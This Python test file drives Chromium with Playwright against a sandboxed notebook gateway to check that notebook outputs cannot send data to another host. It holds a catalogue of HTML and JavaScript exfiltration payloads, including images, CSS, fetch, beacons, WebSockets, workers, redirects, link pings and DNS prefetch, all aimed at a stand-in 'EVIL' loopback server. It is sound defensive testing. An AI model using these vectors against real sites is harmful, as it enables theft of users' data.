"""Outputs that try to send something from the reader's browser to another host, in a real lab in Chromium.

The other host is a server on another port of loopback. Each attack is made twice: with the gateway's defences, when
nothing may arrive; and with the page's policy and guard taken away on the way to the browser, when it must.
"""

import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Route

from tests.browser import CHROMIUM, LONG_MS, QUIET, chromium, log_in
from tests.hub import PASSWORD, Hub, until

pytestmark = [pytest.mark.browser, pytest.mark.sandbox, pytest.mark.heavy]  # a browser session for each

# A page that a test has changed does not count as one of loopback, and could not reach loopback.
REACHES_LOOPBACK = "--disable-features=LocalNetworkAccessChecks,LocalNetworkAccessChecksWebSockets"
# Long enough for what would arrive to arrive, seen with the defences away.
SETTLED_MS = 2500

# Each sends to EVIL/name. They leave the page where it is.
QUIETLY = {
    "img": '<img src="EVIL/img">',
    "srcset": '<img srcset="EVIL/srcset 1x">',
    "css-import": "<style>@import url(EVIL/css-import);</style>",
    "css-image": '<div style="background:url(EVIL/css-image);height:9px">x</div>',
    "font": "<style>@font-face{font-family:f;src:url(EVIL/font)}</style><p style='font-family:f'>x</p>",
    "stylesheet": '<link rel="stylesheet" href="EVIL/stylesheet">',
    "prefetch": '<link rel="prefetch" href="EVIL/prefetch">',
    "preload": '<link rel="preload" as="image" href="EVIL/preload">',
    "iframe": '<iframe src="EVIL/iframe"></iframe>',
    "srcdoc": "<iframe srcdoc=\"<meta http-equiv=refresh content='0;url=EVIL/srcdoc'>\"></iframe>",
    "object": '<object data="EVIL/object"></object>',
    "embed": '<embed src="EVIL/embed">',
    "video": '<video src="EVIL/video" autoplay></video>',
    "svg": '<svg><image href="EVIL/svg" width="9" height="9"/></svg>',
    "input": '<input type="image" src="EVIL/input">',
    "fetch": "<script>fetch('EVIL/fetch',{mode:'no-cors'})</script>",
    "xhr": "<script>x=new XMLHttpRequest();x.open('GET','EVIL/xhr');x.send()</script>",
    "beacon": "<script>navigator.sendBeacon('EVIL/beacon','x')</script>",
    "new-image": "<script>new Image().src='EVIL/new-image'</script>",
    "socket": "<script>new WebSocket('EVIL/socket'.replace('http','ws'))</script>",
    "events": "<script>new EventSource('EVIL/events')</script>",
    "worker": "<script>new Worker(URL.createObjectURL(new Blob([`fetch('EVIL/worker',{mode:'no-cors'})`])))</script>",
    "form": "<form id=f action='EVIL/form' target=there></form><iframe name=there></iframe><script>f.submit()</script>",
    "handler": "<img src=x: onerror=\"fetch('EVIL/handler',{mode:'no-cors'})\">",
    "import": "<script>import('EVIL/import').catch(()=>0)</script>",
    "popup": "<script>window.open('EVIL/popup')</script>",
}
# These take the page away, so each has a page of its own.
LOUDLY = {
    "refresh": '<meta http-equiv="refresh" content="0;url=EVIL/refresh">',
    "location": "<script>location='EVIL/location'</script>",
    "self": "<form id=g action='EVIL/self'></form><script>g.submit()</script>",
    "link": '<a id="leave" href="EVIL/link">here</a>',
    "link-blank": '<a id="leave" href="EVIL/link-blank" target="_blank">here</a>',
    "ping": '<a id="leave" href="#x" ping="EVIL/ping">here</a>',
    "animated": (
        '<svg width=50 height=50><a id="leave" target="_blank"><set attributeName="href" to="EVIL/animated" />'
        "<rect width=50 height=50 /></a></svg>"
    ),
    "form-blank": '<form action="EVIL/form-blank" target="_blank"><button id="leave">here</button></form>',
    "svg-link": '<svg width=50 height=50><a id="leave" href="EVIL/svg-link"><rect width=50 height=50 /></a></svg>',
}
# A file that is saved did not leave through the airlock.
SAVING = {
    "held in a link": '<a download="pay.csv" href="data:text/csv,a,b">here</a>',
    "in a tab": '<a target="_blank" href="data:application/octet-stream;base64,YQ==">here</a>',
    "of the server": '<a download="pay.json" href="/user/ana/pay/api/contents?content=1&type=directory">here</a>',
}
# No request, but a connection or a look-up of a name. The browser itself knows that names below localhost are loopback.
NAME = "looked-up-early.localhost"
CONNECTION = f'<link rel="preconnect" href="EVIL"><link rel="dns-prefetch" href="http://{NAME}">'


DISABLED = re.compile(r'("disabledExtensions": )\[[^]]*\]')


class Evil:
    """The other host: what has arrived."""

    def __init__(self) -> None:
        arrived = self.arrived = set[str]()
        connections = self.connections = list[object]()

        class Handler(BaseHTTPRequestHandler):
            def setup(self) -> None:
                connections.append(self.client_address)
                super().setup()

            def do_GET(self) -> None:
                arrived.add(self.path.strip("/").partition("?")[0])
                self.send_response(404)
                self.end_headers()

            def do_POST(self) -> None:
                self.do_GET()

            def log_message(self, *_: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.server.server_port}"


@pytest.fixture
def evil() -> Iterator[Evil]:
    made = Evil()
    yield made
    made.server.shutdown()
    made.server.server_close()


@pytest.fixture(scope="module")
def hub(hub: Hub) -> Hub:
    """The shared hub, with Ana's workspace open."""
    with hub.client("ana") as client:
        assert hub.open(client, "ana", "pay").status_code in {201, 202}
    return hub


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium(REACHES_LOOPBACK) as running:
        yield running


def undefended(route: Route) -> None:
    answer = route.fetch()
    away = {"content-security-policy", "connection-allowlist", "x-dns-prefetch-control", "content-length"}
    kept = {name: value for name, value in answer.headers.items() if name not in away}
    # Nothing of the lab is switched off.
    route.fulfill(response=answer, headers=kept, body=DISABLED.sub(r"\1[]", answer.text()))


def opened(context: BrowserContext, hub: Hub, *, defended: bool) -> Page:
    """The lab in a page of ``context``."""
    if not defended:
        context.route("**/gateway/guard.js", lambda route: route.fulfill(body="", content_type="text/javascript"))
        context.route("**/user/ana/pay/lab**", lambda route: undefended(route) if is_page(route) else route.continue_())
    made = context.new_page()
    log_in(made, hub.url, "ana", PASSWORD)
    made.goto(f"{hub.url}/user/ana/pay/lab?reset")
    made.defended = defended
    return made


@pytest.fixture(params=["defended", "undefended"])
def page(hub: Hub, browser: Browser, request: pytest.FixtureRequest) -> Iterator[Page]:
    context = browser.new_context()
    yield opened(context, hub, defended=request.param == "defended")
    context.close()


def is_page(route: Route) -> bool:
    return route.request.resource_type == "document"


def show(page: Page, html: str, *, javascript: bool = False) -> None:
    """Run a cell in a new notebook, whose output is ``html``."""
    page.click(".jp-LauncherCard[data-category=Notebook]", timeout=LONG_MS)
    page.wait_for_selector(".jp-Notebook .cm-content", timeout=LONG_MS)
    page.wait_for_selector("text=| Idle", timeout=LONG_MS)
    page.locator(".jp-Notebook .jp-Cell .cm-content").last.click()
    kind = "Javascript" if javascript else "HTML"
    page.keyboard.insert_text(f"from IPython.display import {kind}, display; display({kind}({html!r}))")
    page.keyboard.press("Shift+Enter")


def test_an_output_sends_nothing(page, evil):
    show(page, "".join(QUIETLY.values()).replace("EVIL", evil.url))
    page.wait_for_selector(".jp-OutputArea-output", timeout=LONG_MS)
    if page.defended:
        page.wait_for_timeout(SETTLED_MS)
        assert evil.arrived == set()
        assert evil.connections == []
        assert page.url.startswith(f"{page.url.partition('/user/')[0]}/user/ana/pay/lab")
    else:
        page.wait_for_timeout(SETTLED_MS)
        assert set(QUIETLY) - evil.arrived == set(), "these are no attacks"


@pytest.mark.parametrize("name", LOUDLY)
def test_an_output_does_not_take_the_page_away(page, evil, name):
    show(page, LOUDLY[name].replace("EVIL", evil.url))
    if "leave" in LOUDLY[name]:
        page.locator("#leave").first.click(timeout=LONG_MS)
    if page.defended:
        page.wait_for_timeout(SETTLED_MS)
        assert evil.arrived == set()
        assert evil.connections == []
        assert "/user/ana/pay/lab" in page.url
    else:
        until(lambda: page.wait_for_timeout(100) or name in evil.arrived, 10)


@pytest.mark.parametrize("name", SAVING)
def test_an_output_saves_no_file(page, name):
    # A tab that opens for it counts: what it saves may be over before anybody listens.
    saved: list[str] = []
    page.on("download", lambda file: saved.append(file.suggested_filename))
    page.context.on("page", lambda tab: saved.append(tab.url))
    show(page, SAVING[name])
    page.locator(".jp-OutputArea-output a").first.click(timeout=LONG_MS)
    if page.defended:
        page.wait_for_timeout(SETTLED_MS)
        assert saved == []
    else:
        until(lambda: page.wait_for_timeout(100) or saved, 15)


def test_a_window_that_is_opened_empty_is_led_nowhere(page, evil):
    """As a terminal's links are opened."""
    opened = page.evaluate(
        "evil => { const made = window.open(); if (made) made.location.href = evil; return made !== null; }",
        f"{evil.url}/window",
    )
    page.wait_for_timeout(SETTLED_MS)
    assert (opened, evil.arrived) == ((False, set()) if page.defended else (True, {"window"}))


@pytest.mark.parametrize("defended", [True, False], ids=["defended", "undefended"])
def test_an_output_opens_no_connection(hub, browser, evil, tmp_path, defended):
    # In a profile of its own: Chromium does nothing early in a private window, as the other tests' are.
    log = tmp_path / "network.json"
    context = browser.browser_type.launch_persistent_context(
        tmp_path / "profile", executable_path=CHROMIUM, args=[*QUIET, REACHES_LOOPBACK, f"--log-net-log={log}"]
    )
    page = opened(context, hub, defended=defended)
    show(page, CONNECTION.replace("EVIL", evil.url))
    page.wait_for_selector(".jp-OutputArea-output", state="attached", timeout=LONG_MS)
    page.wait_for_timeout(SETTLED_MS)
    links = page.locator(".jp-OutputArea-output link").count()
    context.close()
    looked_up = NAME in log.read_text()
    assert (links, bool(evil.connections), looked_up) == ((0, False, False) if defended else (2, True, True))


def test_an_output_that_is_a_script_does_not_run(page, evil):
    """The lab's own way to run one is switched off in the page that the gateway builds."""
    show(page, f"fetch('{evil.url}/script', {{mode: 'no-cors'}}); document.body.id = 'it-ran'", javascript=True)
    page.wait_for_timeout(SETTLED_MS)
    ran = page.locator("#it-ran").count()
    assert (ran, evil.arrived) == ((0, set()) if page.defended else (1, {"script"}))


def test_a_script_in_the_page_reaches_no_other_host(page, evil):
    """As if an output had found a way to run a script after all."""
    # The gateway refuses the script of a service worker whatever the page allows (test_gateway_requests); this one
    # comes as if it did not.
    page.context.route(
        "**/static/lab/let-through.js", lambda route: route.fulfill(body="", content_type="text/javascript")
    )
    said = page.evaluate(
        """async ([evil, leave]) => {
            const name = (error) => error.name;
            const tried = {};
            tried.fetch = await fetch(evil + "/fetch", {mode: "no-cors"}).then(() => "sent", name);
            for (const script of ["refused", "let-through"])
                tried[script] = await navigator.serviceWorker
                    .register(`/user/ana/pay/static/lab/${script}.js`)
                    .then(() => "sent", name);
            tried.rtc = typeof RTCPeerConnection;
            if (leave) try { location.href = evil + "/location"; } catch (error) { tried.location = name(error); }
            await new Promise((resolve) => setTimeout(resolve, 1000));
            return tried;
        }""",
        [evil.url, page.defended],
    )
    assert said["refused"] != "sent"
    if page.defended:
        assert said["let-through"] == "SecurityError", "the page's policy allows no worker"
        assert said["fetch"] != "sent"
        assert said["rtc"] == "undefined"
        assert evil.arrived == set()
    else:
        assert said["fetch"] == "sent"
        assert said["let-through"] == "sent"
        assert said["rtc"] == "function", "guard.js is what takes it away"
        assert evil.arrived == {"fetch"}


WAYS = {"download", "export", "share", "print", "from url", "browser tab", "forum"}


def test_the_lab_offers_no_way_to_take_a_file_away(page):
    show(page, "x")
    page.wait_for_selector(".jp-DirListing-item", timeout=LONG_MS)
    offered = []
    for number in range(page.locator(".lm-MenuBar-item").count()):
        page.locator(".lm-MenuBar-item").nth(number).click()
        offered += page.locator(".lm-Menu-itemLabel:visible").all_inner_texts()
        page.keyboard.press("Escape")
    for place in (
        ".jp-DirListing-item",
        ".jp-DirListing-content",
        ".jp-OutputArea-output",
        ".lm-TabBar-tab.jp-mod-current",
    ):
        page.locator(place).first.click(button="right", timeout=LONG_MS)
        offered += page.locator(".lm-Menu-itemLabel:visible").all_inner_texts()
        page.keyboard.press("Escape")
    page.keyboard.press("Control+Shift+C")
    page.wait_for_selector(".lm-CommandPalette-item", state="attached", timeout=LONG_MS)
    offered += page.locator(".lm-CommandPalette-itemLabel").all_text_contents()
    assert "Save Notebook" in offered
    assert len(offered) > 150
    ways = {word for word in WAYS for label in offered if word in label.lower()}
    assert ways == (set() if page.defended else WAYS)
